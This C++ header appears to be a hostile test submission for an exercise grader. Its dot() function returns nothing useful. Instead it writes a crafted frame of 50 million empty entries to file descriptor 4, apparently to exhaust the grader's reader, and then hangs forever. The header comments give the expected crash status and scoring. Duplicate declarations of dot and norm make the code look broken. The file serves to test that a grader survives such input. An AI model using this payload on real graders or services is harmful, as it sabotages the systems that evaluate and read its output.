// Attack: answers with 50 million empty lists, each of which costs a reader hundreds of bytes.
// status: error|crashed|failed
// points: 3
// seconds: 20
#pragma once

#include <mlcore/core/shapes.hpp>
#include <mlcore/foundations/vectors/interface.hpp>

#include <cmath>
#include <unistd.h>
#include <vector>

namespace exercise {
using namespace mlcore;

inline vectors::Dot dot;
inline vectors::Norm norm;
inline vectors::CosineSimilarity cosine_similarity;

inline double dot(VectorView a, VectorView b) {
    check_same_size("dot", "a", a.size(), "b", b.size());
    double sum = 0;
    for (Index i = 0; i < a.size(); ++i) sum += a(i) * b(i);
    const unsigned long count = 50000000;
    std::vector<unsigned char> frame(8 + 5 + count, 0x80);
    for (int i = 0; i < 8; ++i) frame[static_cast<std::size_t>(i)] = static_cast<unsigned char>((count + 5) >> (8 * i));
    frame[8] = 0x9a;
    for (int i = 0; i < 4; ++i) frame[static_cast<std::size_t>(9 + i)] = static_cast<unsigned char>(count >> (8 * (3 - i)));
    for (std::size_t at = 0; at < frame.size();) {
        const ssize_t put = write(4, frame.data() + at, frame.size() - at);
        if (put <= 0) break;
        at += static_cast<std::size_t>(put);
    }
    for (;;) pause();
}

inline double norm(VectorView a) {
    return std::sqrt(a.squaredNorm());
}

inline double cosine_similarity(VectorView a, VectorView b) {
    check_same_size("cosine_similarity", "a", a.size(), "b", b.size());
    const double lengths = norm(a) * norm(b);
    return lengths == 0 ? 0 : a.dot(b) / lengths;
}

} // namespace exercise
